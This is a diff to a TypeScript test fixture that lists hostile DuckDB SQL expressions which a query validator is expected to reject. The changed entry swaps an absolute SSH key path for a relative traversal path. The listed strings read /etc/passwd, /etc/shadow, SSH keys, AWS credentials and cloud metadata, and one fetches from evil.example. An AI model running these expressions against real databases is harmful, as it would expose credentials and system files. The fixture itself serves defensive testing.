@@ -30,7 +30,7 @@ export const HOSTILE: HostileCase[] = [
   { name: 'DuckDB read_csv of a local file', text: "read_csv('/etc/passwd')", code: 'QV4021' },
   { name: 'DuckDB read_csv_auto from S3', text: "read_csv_auto('s3://victim-bucket/keys.csv')", code: 'QV4021' },
   { name: 'DuckDB read_text', text: "concat(message, read_text('/etc/shadow'))", code: 'QV4021' },
-  { name: 'DuckDB read_blob of an SSH key', text: "length(read_blob('/root/.ssh/id_rsa'))", code: 'QV4021' },
+  { name: 'DuckDB read_blob of an SSH key', text: "length(read_blob('../../.ssh/id_rsa'))", code: 'QV4021' },
   { name: 'DuckDB read_parquet over httpfs', text: "read_parquet('https://evil.example/exfil.parquet')", code: 'QV4021' },
   { name: 'DuckDB read_json of cloud metadata', text: "read_json('http://169.254.169.254/latest/meta-data/iam/')", code: 'QV4021' },
   { name: 'DuckDB glob', text: "glob('/home/*/.aws/credentials')", code: 'QV4021' },
